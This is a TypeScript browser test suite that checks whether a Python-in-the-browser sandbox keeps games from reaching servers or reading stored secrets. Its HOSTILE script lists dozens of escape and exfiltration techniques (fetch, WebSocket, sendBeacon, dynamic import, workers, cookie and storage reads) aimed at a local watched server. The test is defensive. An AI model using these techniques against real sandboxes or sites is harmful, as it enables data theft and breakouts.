import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { launchBrowser } from '../support/browser';
import { useHarness } from '../support/harness';
import { openPythonPage, pythonGame } from '../support/pythonPage';

const SECRET = 'arcade-secret-4711';
const harness = useHarness('python');

/** Notes every connection and every address asked for, whoever asks. */
class Watched {
  readonly asked: string[] = [];
  connections = 0;
  readonly #server: Server;

  /** @param behind where requests are passed on to; without it everything is answered with a word. */
  constructor(behind?: () => string) {
    this.#server = createServer((asking, answering) => {
      const path = asking.url ?? '';
      this.asked.push(path);
      answering.setHeader('Access-Control-Allow-Origin', '*');
      if (!behind) {
        answering.end('reached');
        return;
      }
      const onward = request(new URL(path, behind()), (reply) => {
        answering.writeHead(reply.statusCode ?? 500, reply.headers);
        reply.pipe(answering);
      });
      onward.end();
    });
    this.#server.on('connection', () => (this.connections += 1));
  }

  async listen(): Promise<string> {
    await new Promise<void>((done) => this.#server.listen(0, '127.0.0.1', done));
    return `http://127.0.0.1:${String((this.#server.address() as AddressInfo).port)}/`;
  }

  close(): void {
    this.#server.closeAllConnections();
    this.#server.close();
  }
}

const outside = new Watched();
const own = new Watched(() => harness.url);
let browser: Browser;
let page: Page;
let outsideUrl = '';
const otherPages: string[] = [];

beforeAll(async () => {
  outsideUrl = await outside.listen();
  const ownUrl = await own.listen();
  browser = await launchBrowser();
  page = await browser.newPage();
  page.context().on('page', (opened) => otherPages.push(opened.url()));
  await openPythonPage(page, `${ownUrl}some/where/`);
  await page.evaluate(async (secret) => {
    localStorage.setItem('secret', secret);
    sessionStorage.setItem('secret', secret);
    document.cookie = `secret=${secret}`;
    await (await caches.open('secrets')).put('/secret', new Response(secret));
    await new Promise((done) => {
      const opening = indexedDB.open('secrets', 1);
      opening.onupgradeneeded = () => opening.result.createObjectStore('keys').put(secret, 'key');
      opening.onsuccess = done;
    });
    const heard: unknown[] = [];
    Object.assign(window, { secret, heard });
    new BroadcastChannel('secrets').onmessage = ({ data }) => heard.push(data);
    window.addEventListener('message', ({ data }) => heard.push(data));
  }, SECRET);
});
afterAll(async () => {
  await browser.close();
  outside.close();
  own.close();
});

/** What the page has heard from outside its own code. */
const heard = (): Promise<unknown[]> =>
  page.evaluate(() => (window as unknown as { heard: unknown[] }).heard);

it('a page of the app could reach the watched server: the watch works', async () => {
  await page.evaluate((url) => fetch(`${url}control`), outsideUrl);
  expect(outside.asked).toEqual(['/control']);
  expect(outside.connections).toBe(1);
});

it.each([
  ['another server', () => outsideUrl],
  ['the server of the app', () => new URL('/', page.url()).href],
])('no way out of Python makes a request to %s or reads anything of the app', async (_, target) => {
  await page.evaluate(() => window.sandbox.prepare());
  const address = page.url();
  const asked = [...own.asked];
  const { connections } = outside;
  const told = await tryDoors(`ADDRESS = ${JSON.stringify(`${target()}escape/`)}\n${pythonGame('doors')}`);
  // What was sent may arrive late.
  await new Promise((done) => setTimeout(done, 1000));

  expect(Object.keys(told).length).toBeGreaterThanOrEqual(45);
  expect(outside.asked).toEqual(['/control']);
  expect(outside.connections).toBe(connections);
  expect(own.asked).toEqual(asked);
  for (const [door, outcome] of Object.entries(told)) {
    expect(outcome, door).not.toContain(SECRET);
    // No global of JavaScript was of use, in no way.
    expect(outcome, door).not.toContain(' went: ');
    expect(outcome, door).not.toContain('reached');
  }
  expect(page.url()).toBe(address);
  expect(otherPages).toEqual([]);
  expect(await heard()).toEqual([]);
});

/** What each door of a game has to tell; a game that was ended by one goes on to the next in a new interpreter. */
function tryDoors(source: string): Promise<Record<string, string>> {
  return page.evaluate(async (source) => {
    const told: Record<string, string> = {};
    let opened = await window.sandbox.openGame(source, 1);
    const listed = opened.ok ? await opened.value.actions() : opened;
    if (!listed.ok) throw new Error(listed.error.message);
    for (const door of listed.value.actions) {
      if (!opened.ok) throw new Error(opened.error.message);
      const step = await opened.value.step(door);
      told[door] = step.ok ? step.value.observation : `${step.error.cause}: ${step.error.message}`;
      if (!step.ok && !['raised', 'shape'].includes(step.error.cause)) {
        opened = await window.sandbox.openGame(source, 1);
      }
    }
    if (opened.ok) opened.value.close();
    return told;
  }, source);
}

it('a game that forges answers gets no further than an answer of the right form', async () => {
  const outcome = await page.evaluate(
    async (source) => {
      const opened = await window.sandbox.openGame(source, 1);
      if (!opened.ok) return null;
      const step = await opened.value.step('patch_harness');
      opened.value.close();
      return step.ok ? step.value : step.error.cause;
    },
    `ADDRESS = "x"\n${pythonGame('doors')}`,
  );
  expect(outcome).toBe('interpreter');
});

/** A script in the place of Python's: what a game could do that had all of JavaScript in its hands. */
const HOSTILE = `
const report = (message) => self.postMessage(message);
const ways = {
  fetch: () => fetch(ADDRESS + 'fetch').then((reply) => reply.text()),
  opaque: () => fetch(ADDRESS + 'opaque', { mode: 'no-cors' }).then((reply) => reply.type),
  xhr: () => new Promise((done, failed) => {
    const asking = new XMLHttpRequest();
    asking.open('GET', ADDRESS + 'xhr');
    asking.onload = () => done(asking.responseText);
    asking.onerror = () => failed(new Error('refused'));
    asking.send();
  }),
  syncXhr: () => {
    const asking = new XMLHttpRequest();
    asking.open('GET', ADDRESS + 'sync', false);
    asking.send();
    return asking.responseText;
  },
  socket: () => new Promise((done, failed) => {
    const socket = new WebSocket(ADDRESS.replace('http', 'ws') + 'socket');
    socket.onopen = done;
    socket.onerror = () => failed(new Error('refused'));
  }),
  events: () => new Promise((done, failed) => {
    const events = new EventSource(ADDRESS + 'events');
    events.onopen = done;
    events.onerror = () => failed(new Error('refused'));
  }),
  transport: () => new WebTransport(ADDRESS.replace('http:', 'https:') + 'transport').ready,
  beacon: () => navigator.sendBeacon(ADDRESS + 'beacon'),
  importScripts: () => importScripts(ADDRESS + 'scripts'),
  import: () => import(ADDRESS + 'import'),
  importBlob: () => import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))),
  importData: () => import('data:text/javascript,export default 1'),
  eval: () => (0, eval)("fetch('" + ADDRESS + "eval')"),
  function: () => new Function("return fetch('" + ADDRESS + "function')")(),
  timer: () => { setTimeout("fetch('" + ADDRESS + "timer')", 0); throw new Error('no text is run'); },
  worker: () => new Promise((done, failed) => {
    const worker = new Worker(ADDRESS + 'worker');
    worker.onmessage = done;
    worker.onerror = () => failed(new Error('refused'));
  }),
  nested: () => new Promise((done, failed) => {
    const text = "fetch('" + ADDRESS + "nested').then(() => postMessage(1), () => postMessage(0))";
    const worker = new Worker(URL.createObjectURL(new Blob([text])));
    worker.onmessage = ({ data }) => (data ? done('reached') : failed(new Error('refused')));
    worker.onerror = () => failed(new Error('refused'));
  }),
  shared: () => new SharedWorker(ADDRESS + 'shared'),
  serviceWorker: () => navigator.serviceWorker.register(ADDRESS + 'service'),
  indexedDB: () => new Promise((done, failed) => {
    const opening = indexedDB.open('secrets');
    opening.onsuccess = () => done([...opening.result.objectStoreNames]);
    opening.onerror = () => failed(new Error('refused'));
  }),
  caches: () => caches.match('/secret').then((found) => found.text()),
  directory: () => navigator.storage.getDirectory(),
  localStorage: () => localStorage.getItem('secret'),
  cookies: () => cookieStore.getAll().then(JSON.stringify),
  channel: () => { new BroadcastChannel('secrets').postMessage('escaped'); throw new Error('nobody hears it'); },
  locks: () => navigator.locks.query().then(JSON.stringify),
  window: () => window.open(ADDRESS + 'window'),
  parent: () => parent.postMessage('escaped', '*'),
  top: () => { top.location = ADDRESS + 'top'; },
  location: () => { self.location = ADDRESS + 'location'; throw new Error('cannot be set'); },
  document: () => document.cookie,
  notify: () => {
    if (Notification.permission !== 'granted') throw new Error('not allowed');
    return new Notification('escaped');
  },
  font: () => new FontFace('x', 'url(' + ADDRESS + 'font)').load(),
};
self.onmessage = async ({ data }) => {
  if (data.kind === 'start') {
    report(data.image === null ? { kind: 'image', image: new ArrayBuffer(8) } : { kind: 'opened' });
    return;
  }
  const told = {};
  for (const [name, way] of Object.entries(ways)) {
    const patience = new Promise((done) => setTimeout(done, 3000, 'no answer'));
    try {
      const value = await Promise.race([Promise.resolve(way()).then((value) => 'WENT ' + value), patience]);
      told[name] = value;
    } catch (error) {
      told[name] = String(error);
    }
  }
  report({ kind: 'answer', id: data.id, text: JSON.stringify(told) });
  report({ kind: 'answer', id: data.id, text: 'twice' });
};`;

it('a script that had all of JavaScript would make no request leave and read nothing either', async () => {
  const address = page.url();
  const asked = [...own.asked];
  const { connections } = outside;
  const reports = await page.evaluate(
    async ({ script }) => {
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      frame.src = window.sandboxAddress;
      const loaded = new Promise((done) => (frame.onload = done));
      document.body.append(frame);
      await loaded;
      const { port1, port2 } = new MessageChannel();
      const wasm = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]).buffer;
      const interpreter = new TextEncoder().encode(script).buffer;
      const heard: { kind: string; text?: string }[] = [];
      const done = new Promise((settle) => {
        port1.onmessage = ({ data }: MessageEvent<{ kind: string; text?: string }>) => {
          heard.push(data);
          if (data.kind === 'ready') port1.postMessage({ kind: 'open', interpreter: 1 });
          if (data.kind === 'opened') port1.postMessage({ kind: 'ask', interpreter: 1, id: 1, request: '' });
          if (data.kind === 'died' || data.kind === 'failed') settle(null);
        };
      });
      frame.contentWindow?.postMessage({ interpreter, wasm, stdlib: new ArrayBuffer(0) }, '*', [port2]);
      await done;
      frame.remove();
      return heard;
    },
    { script: `const ADDRESS = ${JSON.stringify(`${outsideUrl}hostile/`)};\n${HOSTILE}` },
  );
  // The second answer to one question ended the interpreter.
  expect(reports.map(({ kind }) => kind)).toEqual(['ready', 'opened', 'answer', 'died']);
  const told = JSON.parse(reports[2]?.text ?? '{}') as Record<string, string>;
  expect(Object.keys(told).length).toBeGreaterThan(30);
  for (const [way, outcome] of Object.entries(told)) {
    expect(outcome, way).not.toMatch(/^WENT/);
    expect(outcome, way).not.toContain(SECRET);
  }
  expect(outside.asked).toEqual(['/control']);
  expect(outside.connections).toBe(connections);
  expect(own.asked.slice(asked.length).filter((path) => !path.includes('python-sandbox'))).toEqual([]);
  expect(page.url()).toBe(address);
  expect(otherPages).toEqual([]);
  expect(await heard()).toEqual([]);
});

it('the sandbox page does nothing in a frame that is not sandboxed', async () => {
  const readiness = await page.evaluate(async (script) => {
    const interpreter = new TextEncoder().encode(script).buffer;
    const wasm = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]).buffer;
    const ready: string[] = [];
    const start = async (sandboxed: boolean) => {
      const frame = document.createElement('iframe');
      if (sandboxed) frame.setAttribute('sandbox', 'allow-scripts');
      frame.src = window.sandboxAddress;
      const loaded = new Promise((done) => (frame.onload = done));
      document.body.append(frame);
      await loaded;
      const { port1, port2 } = new MessageChannel();
      const told = new Promise<void>((done) => {
        port1.onmessage = () => {
          ready.push(sandboxed ? 'sandboxed' : 'open');
          done();
        };
      });
      frame.contentWindow?.postMessage({ interpreter, wasm, stdlib: new ArrayBuffer(0) }, '*', [port2]);
      return told;
    };
    void start(false);
    await start(true);
    await start(true);
    return ready;
  }, `const ADDRESS = 'x';\n${HOSTILE}`);
  expect(readiness).toEqual(['sandboxed', 'sandboxed']);
});
